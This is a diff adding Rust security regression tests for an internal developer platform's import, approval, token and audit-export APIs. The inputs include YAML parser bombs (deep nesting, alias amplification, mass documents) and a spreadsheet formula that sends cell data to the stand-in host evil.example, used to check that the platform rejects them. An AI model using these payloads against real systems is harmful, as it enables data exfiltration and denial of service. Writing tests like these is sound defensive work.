@@ -1,0 +1,267 @@
+//! What a security review found (issue 13), each as the attack it describes: parser bombs,
+//! token scopes on approvals, service tokens as their own actor, forged request ids, payloads
+//! that amplify into every inbox, and tier 0 through the importer.
+use crate::helpers::{spawn_app_with, Browser, Options, TestApp};
+use serde_json::{json, Value};
+use sqlx::Row;
+use uuid::Uuid;
+
+async fn app() -> TestApp {
+    spawn_app_with(Options { migrate: true, demo_data: true, settings: vec![("deploys.worker", false.into())] }).await
+}
+
+/// Sends `files` to the import API as `token` (a dry run unless `apply`).
+async fn import(app: &TestApp, token: &str, files: Vec<(&str, String)>, apply: bool) -> reqwest::Response {
+    let mut form = reqwest::multipart::Form::new();
+    for (path, content) in files {
+        form = form.part("f", reqwest::multipart::Part::text(content).file_name(path.to_owned()));
+    }
+    let query = if apply { "" } else { "?dry_run=true" };
+    app.client.post(app.url(&format!("/api/v1/catalog/import{query}"))).bearer_auth(token).multipart(form).send().await.expect("import")
+}
+
+/// A new token of `browser`'s, with `scopes` (and for a service token, `team`).
+async fn token(browser: &Browser, name: &str, scopes: &[&str], team: Option<&str>) -> String {
+    let mut form: Vec<(&str, &str)> = vec![("name", name), ("days", "30")];
+    form.extend(scopes.iter().map(|s| (*s, "on")));
+    if let Some(t) = team {
+        form.push(("team", t));
+    }
+    let r = browser.server_fn("iam/create-token", &form).await;
+    assert_eq!(r.status(), 200, "token {name}");
+    r.json::<Value>().await.expect("json")["secret"].as_str().expect("secret").to_owned()
+}
+
+async fn error_of(r: reqwest::Response) -> (u16, String, String) {
+    let status = r.status().as_u16();
+    let v: Value = r.json().await.expect("json");
+    (status, v["error"]["field"].as_str().unwrap_or("").to_owned(), v["error"]["message"].as_str().unwrap_or("").to_owned())
+}
+
+const DOMAIN: &str = "apiVersion: backstage.io/v1alpha1\nkind: Domain\nmetadata: {name: bombs}\nspec: {owner: ledger}\n";
+
+#[tokio::test]
+async fn yaml_bombs_are_refused_naming_the_limit_while_the_server_answers_others() {
+    let app = app().await;
+    let dave = app.login_as("dave").await; // a viewer: a dry run needs only `read`
+    let reader = token(&dave, "reader", &["read"], None).await;
+    let nesting = "[".repeat(1_900_000);
+    let anchor = format!("a: &big \"{}\"\nb: [{}]\n", "x".repeat(100_000), vec!["*big"; 2_000].join(", "));
+    let documents = "---\n".repeat(20_000);
+    let bombs = [
+        ("nesting", nesting, "deeper than 32 levels"),
+        ("aliases", anchor, "alias"),
+        ("documents", documents, "documents over 10000"),
+    ];
+    // every bomb, three times at once, with ordinary reads among them
+    let sent = bombs.iter().flat_map(|b| [b, b, b]).map(|(name, text, _)| {
+        let (app, reader) = (&app, &reader);
+        async move { (*name, import(app, reader, vec![("catalog-info.yaml", text.clone())], false).await) }
+    });
+    let reads = (0..12).map(|i| {
+        let (app, reader) = (&app, &reader);
+        async move {
+            let path = if i % 2 == 0 { "/api/v1/me" } else { "/api/v1/catalog/entities?limit=5" };
+            app.client.get(app.url(path)).bearer_auth(reader).send().await.expect("read").status().as_u16()
+        }
+    });
+    let (refusals, answers) = futures::future::join(futures::future::join_all(sent), futures::future::join_all(reads)).await;
+    assert!(answers.iter().all(|s| *s == 200), "ordinary reads beside the bombs: {answers:?}");
+    for (name, r) in refusals {
+        let expected = bombs.iter().find(|b| b.0 == name).map(|b| b.2).unwrap_or_default();
+        let (status, field, message) = error_of(r).await;
+        assert_eq!((status, field.as_str()), (422, "catalog-info.yaml"), "{name}: {message}");
+        assert!(message.contains(expected), "{name}: {message}");
+    }
+    // the same limits hold for the page's import, and a sane file still imports
+    let form = [("content", "a: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]"), ("dry_run", "on")];
+    let r = dave.server_fn("catalog/import", &form).await;
+    let status = r.status();
+    let body = r.text().await.expect("body");
+    assert_eq!(status, 422, "{body}");
+    assert!(body.contains("deeper than 32"), "{body}");
+    let ok = import(&app, &reader, vec![("catalog-info.yaml", DOMAIN.into())], false).await;
+    assert_eq!(ok.status(), 200);
+}
+
+#[tokio::test]
+async fn an_import_over_its_size_limits_is_a_413_naming_the_limit() {
+    let app = app().await;
+    let dave = app.login_as("dave").await;
+    let reader = token(&dave, "reader", &["read"], None).await;
+    let many: Vec<(&str, String)> = (0..5_001).map(|_| ("x.yaml", String::new())).collect();
+    let (status, _, message) = error_of(import(&app, &reader, many, false).await).await;
+    assert_eq!(status, 413, "{message}");
+    assert!(message.contains("at most 5000"), "{message}");
+}
+
+/// A production deploy of refunds (payments') asked for by a payments service token, so that
+/// bob, payments' lead, may decide on it.
+async fn production_deploy(app: &TestApp, ci: &str) -> (String, String) {
+    let r = app
+        .client
+        .post(app.url("/api/v1/deploys"))
+        .bearer_auth(ci)
+        .header("idempotency-key", Uuid::new_v4().to_string())
+        .json(&json!({ "service": "refunds", "environment": "production", "version": "v7", "reason": "release" }))
+        .send()
+        .await
+        .expect("kick off");
+    let v: Value = r.json().await.expect("json");
+    assert_eq!(v["state"], "awaiting_approval", "{v}");
+    (v["id"].as_str().expect("id").to_owned(), v["approval_id"].as_str().expect("approval").to_owned())
+}
+
+async fn decide(app: &TestApp, token: &str, approval: &str) -> u16 {
+    app.client
+        .post(app.url(&format!("/api/v1/approvals/{approval}/approve")))
+        .bearer_auth(token)
+        .json(&json!({ "comment": "ok" }))
+        .send()
+        .await
+        .expect("decide")
+        .status()
+        .as_u16()
+}
+
+#[tokio::test]
+async fn a_leads_token_decides_only_with_the_scope_the_change_needs() {
+    let app = app().await;
+    let alice = app.login_as("alice").await;
+    let bob = app.login_as("bob").await; // lead of payments
+    let ci = token(&alice, "ci", &["read", "deploy"], Some("payments")).await;
+    let (_, approval) = production_deploy(&app, &ci).await;
+    let read_only = token(&bob, "reader", &["read"], None).await;
+    let writer = token(&bob, "writer", &["write"], None).await;
+    assert_eq!(decide(&app, &read_only, &approval).await, 403, "a read-only token approved a production deploy");
+    assert_eq!(decide(&app, &writer, &approval).await, 403, "a deploy needs the deploy scope to approve");
+    let deployer = token(&bob, "deployer", &["read", "deploy"], None).await;
+    assert_eq!(decide(&app, &deployer, &approval).await, 200);
+}
+
+#[tokio::test]
+async fn a_service_token_acts_as_itself_not_as_the_admin_who_made_it() {
+    let app = app().await;
+    let alice = app.login_as("alice").await;
+    let ci = token(&alice, "ci", &["read", "deploy"], Some("payments")).await;
+    // fees-engine is ledger's: nothing of payments', so its token has no say over its deploys
+    let ask = json!({ "service": "fees-engine", "environment": "dev", "version": "v8", "reason": "release" });
+    let kick = |who: reqwest::RequestBuilder| who.header("idempotency-key", "release-v8").json(&ask).send();
+    let by_alice = kick(alice.client.post(alice.url("/api/v1/deploys")).header("origin", alice.url(""))).await.expect("alice");
+    assert_eq!(by_alice.status(), 201);
+    let alices: Value = by_alice.json().await.expect("json");
+    let payments = json!({ "service": "refunds", "environment": "dev", "version": "v8", "reason": "release" });
+    let by_token = app
+        .client
+        .post(app.url("/api/v1/deploys"))
+        .bearer_auth(&ci)
+        .header("idempotency-key", "release-v8")
+        .json(&payments)
+        .send()
+        .await
+        .expect("token");
+    assert_eq!(by_token.status(), 201, "the token shares no idempotency keys with alice");
+    let tokens: Value = by_token.json().await.expect("json");
+    assert_ne!(tokens["id"], alices["id"]);
+    assert_eq!(tokens["requester"], "token:payments/ci");
+
+    let mut db = app.db().await;
+    let (actor, actor_id): (String, Uuid) = sqlx::query_as(
+        "SELECT actor_name, actor_id FROM audit_log WHERE subject_id = $1 AND action LIKE 'deploy.%' ORDER BY id LIMIT 1",
+    )
+    .bind(tokens["id"].as_str())
+    .fetch_one(&mut db)
+    .await
+    .expect("audit row");
+    let alice_id: Uuid = sqlx::query("SELECT id FROM users WHERE username = 'alice'").fetch_one(&mut db).await.expect("alice").get(0);
+    assert_eq!(actor, "token:payments/ci");
+    assert_ne!(actor_id, alice_id, "the audit names the token, not the admin who made it");
+
+    let cancel = app
+        .client
+        .post(app.url(&format!("/api/v1/deploys/{}/cancel", alices["id"].as_str().expect("id"))))
+        .bearer_auth(&ci)
+        .send()
+        .await
+        .expect("cancel");
+    assert_eq!(cancel.status(), 403, "the token cancelled its maker's deploy");
+}
+
+#[tokio::test]
+async fn a_forged_request_id_is_replaced_and_never_reaches_the_csv() {
+    let app = app().await;
+    let alice = app.login_as("alice").await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
+    let r = alice
+        .client
+        .post(alice.url("/api/iam/create-team"))
+        .header("origin", alice.url(""))
+        .header("accept", "application/json")
+        .header("x-request-id", formula)
+        .form(&[("slug", "csv-team"), ("name", "CSV"), ("description", "")])
+        .send()
+        .await
+        .expect("create team");
+    assert_eq!(r.status(), 200);
+    let fresh = r.headers().get("x-request-id").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
+    assert!(Uuid::parse_str(&fresh).is_ok(), "a fresh id is answered, not the forged one: {fresh}");
+    let kept = alice.client.get(alice.url("/api/v1/me")).header("x-request-id", "ci-run.42_a").send().await.expect("me");
+    assert_eq!(kept.headers().get("x-request-id").and_then(|v| v.to_str().ok()), Some("ci-run.42_a"), "a plain id is kept");
+
+    let csv = alice.get("/admin/audit.csv").await.text().await.expect("csv");
+    assert!(!csv.contains("HYPERLINK"), "{csv}");
+    assert!(csv.contains(&fresh), "the team's audit row carries the fresh id");
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            assert!(!cell.starts_with(['=', '+', '@']), "a formula cell in the export: {line}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn large_payloads_stay_out_of_lists_and_one_person_has_few_requests_open() {
+    let app = app().await;
+    let dave = app.login_as("dave").await;
+    let alice = app.login_as("alice").await;
+    let writer = token(&dave, "writer", &["read", "write"], None).await;
+    let padded = format!("{DOMAIN}# {}\n", "padding ".repeat(20_000));
+    let first = import(&app, &writer, vec![("catalog-info.yaml", padded.clone())], true).await;
+    let report: Value = first.json().await.expect("json");
+    let id = report["approval_id"].as_str().expect("sent for approval").to_owned();
+
+    let inbox: Vec<Value> = alice.server_fn("approvals/list", &[("inbox", "all")]).await.json().await.expect("json");
+    let listed = inbox.iter().find(|v| v["id"] == id.as_str()).expect("listed");
+    assert_eq!(listed["payload"], "", "a 160 KB payload in the list");
+    let whole: Value = alice.server_fn("approvals/get", &[("id", &id)]).await.json().await.expect("json");
+    assert!(whole["payload"].as_str().unwrap_or("").contains("padding padding"), "the request's page has it");
+
+    for _ in 1..100 {
+        let r = import(&app, &writer, vec![("catalog-info.yaml", DOMAIN.into())], true).await;
+        assert_eq!(r.status(), 200);
+    }
+    let (status, field, message) = error_of(import(&app, &writer, vec![("catalog-info.yaml", DOMAIN.into())], true).await).await;
+    assert_eq!((status, field.as_str()), (422, "request"), "{message}");
+    assert!(message.contains("100 requests waiting"), "{message}");
+}
+
+#[tokio::test]
+async fn tier_zero_through_the_importer_needs_two_approvals_even_from_an_admin() {
+    let app = app().await;
+    let alice = app.login_as("alice").await;
+    let admin = token(&alice, "admin", &["admin"], None).await;
+    let component = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: vault-two\n  annotations: {switchyard.dev/tier: '0'}\nspec: {type: service, lifecycle: production, owner: ledger}\n";
+    let r = import(&app, &admin, vec![("catalog-info.yaml", component.into())], true).await;
+    let report: Value = r.json().await.expect("json");
+    assert_eq!(report["applied"], false, "an admin's import of a tier 0 service applied at once: {report}");
+    let id = report["approval_id"].as_str().expect("sent for approval").to_owned();
+    let mut db = app.db().await;
+    let required: i32 = sqlx::query("SELECT required_approvals FROM approval_requests WHERE id = $1::uuid")
+        .bind(&id)
+        .fetch_one(&mut db)
+        .await
+        .expect("request")
+        .get(0);
+    assert_eq!(required, 2);
+    let found: i64 = sqlx::query("SELECT count(*) FROM entities WHERE name = 'vault-two'").fetch_one(&mut db).await.expect("count").get(0);
+    assert_eq!(found, 0, "nothing is written before two approvals");
+}
